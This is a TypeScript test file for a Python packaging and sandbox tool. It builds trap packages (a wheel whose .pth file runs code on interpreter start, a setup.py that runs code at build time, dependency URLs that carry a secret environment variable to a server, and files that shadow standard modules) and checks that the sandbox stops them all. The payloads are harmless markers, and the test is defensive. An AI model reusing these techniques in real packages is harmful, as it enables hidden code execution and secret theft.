// A project whose every file is made to run code, or to send a secret away, outside the sandbox.
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { mkdir, readdir, symlink } from 'node:fs/promises';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';
import { cacheFolder } from '../../system/cache.ts';
import { codePath } from '../../system/code.ts';
import { writeSourceDistribution, writeWheel } from '../helpers/write-package.ts';
import { makeProject, writeFiles } from './throw-away-project.ts';

/** A wheel whose `.pth` file runs whenever a Python with it starts. */
function makeWheel(file: string, code: string, metadata?: string): void {
  writeWheel(file, { 'helper.pth': `import sys; exec(${JSON.stringify(code)})\n` }, metadata);
}

/** A source distribution whose build runs `code`. */
function makeSource(folder: string, code: string): void {
  writeSourceDistribution(join(folder, 'davit_trap-1.0.tar.gz'), {
    'setup.py': `${code}\nimport setuptools\nsetuptools.setup(name="davit-trap", version="1.0")\n`,
    'PKG-INFO': 'Metadata-Version: 1.0\nName: davit-trap\nVersion: 1.0\n',
  });
}

test('nothing of a project runs outside the sandbox or reads a secret, whatever its files say', async () => {
  const root = await makeProject({
    'wheel/1': 'm_obedient',
    'source/1': 'm_obedient',
    'address/1': 'm_obedient',
    'inner/1': 'm_obedient',
  });
  const marks = join(root, 'marks');
  const mark = (what: string) => `open(${JSON.stringify(join(marks, what))}, "w").close()`;
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(`${request.url ?? ''} ${JSON.stringify(request.headers)}`);
    response.writeHead(404).end();
  }).listen(0, '127.0.0.1');
  onTestFinished(() => void server.close());
  await once(server, 'listening');
  const there = `127.0.0.1:${(server.address() as { port: number }).port}`;
  const index = `http://${there}/simple`;
  for (const folder of [
    marks,
    join(root, 'index'),
    join(root, 'models/wheel/1/code'),
    join(root, 'models/inner/1/code'),
  ])
    await mkdir(folder, { recursive: true });
  makeWheel(join(root, 'models/wheel/1/code/helper-1.2-py3-none-any.whl'), mark('wheel'));
  const inner = `Requires-Dist: evil @ http://${there}/\${DAVIT_TEST_SECRET}/evil-1.0-py3-none-any.whl\n`;
  makeWheel(join(root, 'models/inner/1/code/helper-1.2-py3-none-any.whl'), mark('inner'), inner);
  makeSource(join(root, 'index'), mark('source'));
  const address = `https://${there}/\${DAVIT_TEST_SECRET}/helper-1.2-py3-none-any.whl`;
  const endpoint = (name: string) =>
    `name: ${name}\nconfig:\n  served_entities: [{ entity_name: ${name}, entity_version: 1 }]\n`;
  await writeFiles(root, {
    'Pulumi.yaml': 'name: davit\nruntime: nodejs\n',
    'uv.toml': `compile-bytecode = true\nno-binary = ["davit-trap"]\n[[index]]\nurl = "${index}"\ndefault = true\n`,
    'pyproject.toml': `[project]\nname = "x"\nversion = "1"\n[tool.uv]\nindex-url = "${index}"\n`,
    'pip.conf': `[global]\nindex-url = ${index}\n`,
    '.netrc': `machine ${there} login a password b\n`,
    ...Object.fromEntries(['pip', 'zipfile', 'json', 'davit_server'].map((m) => [`${m}.py`, mark(m)])),
    'models/wheel/1/requirements.txt': 'humanize==4.9.0\ncode/helper-1.2-py3-none-any.whl\n',
    'models/inner/1/requirements.txt': 'humanize==4.9.0\ncode/helper-1.2-py3-none-any.whl\n',
    'models/source/1/requirements.txt': 'humanize==4.9.0\ndavit-trap==1.0\n',
    'models/address/1/requirements.txt': `humanize==4.9.0\nhelper @ ${address}\n`,
    ...Object.fromEntries(['wheel', 'source', 'address', 'inner'].map((n) => [`endpoints/${n}.yaml`, endpoint(n)])),
  });
  // A cache of its own for proofs and virtualenvs, not for uv.
  await mkdir(join(root, 'cache'));
  if (existsSync(cacheFolder('uv'))) await symlink(cacheFolder('uv'), join(root, 'cache', 'uv'));
  const davit = async (...args: readonly string[]) => {
    const env = { DAVIT_CACHE: join(root, 'cache'), DAVIT_TEST_SECRET: 'secret', UV_FIND_LINKS: join(root, 'index') };
    const child = spawn(process.execPath, [codePath('cli', 'main.ts'), ...args], {
      cwd: root,
      env: { ...process.env, ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const said = { text: '' };
    for (const stream of [child.stdout, child.stderr])
      stream.on('data', (bytes: Buffer) => void (said.text += String(bytes)));
    await once(child, 'close');
    return said.text;
  };

  const locked = await davit('lock');
  expect(locked).toMatch(/no version of davit-trap has a wheel|davit-trap==1\.0 has no wheel/);
  expect(locked).toContain('Cannot install "helper @ https://');
  expect(locked).toContain('in the wheel of helper, evil is required from an address');
  expect(asked).toEqual([]);
  expect(locked).not.toContain('secret');
  const proved = await davit('validate', 'wheel');
  expect(proved).toMatch(/wheel.*import-failed|import-failed.*wheel/s); // MLflow is missing, so it got as far as Python
  expect(await readdir(marks)).toEqual([]);
  expect(asked).toEqual([]);
  await davit('validate', 'wheel', '--without-sandbox');
  expect(await readdir(marks)).toEqual(['wheel']); // the trap works where nothing holds it
});
